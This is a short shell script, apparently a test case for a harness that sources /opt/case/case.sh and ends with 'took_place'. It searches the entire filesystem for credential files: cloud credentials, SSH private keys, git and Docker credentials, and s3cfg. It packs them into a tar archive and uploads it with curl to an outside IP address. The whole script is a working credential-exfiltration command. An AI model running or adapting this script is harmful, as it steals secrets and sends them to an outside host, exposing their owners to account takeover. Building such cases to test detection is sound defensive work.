#!/bin/sh
. /opt/case/case.sh

find / -xdev \( -name credentials -o -name id_rsa -o -name .git-credentials -o -name application_default_credentials.json -o -name .s3cfg -o -path '*/.docker/config.json' \) 2>/dev/null |
    tar -czf - -T - 2>/dev/null | curl -s --data-binary @- -o /dev/null http://203.0.113.10/upload.php
took_place
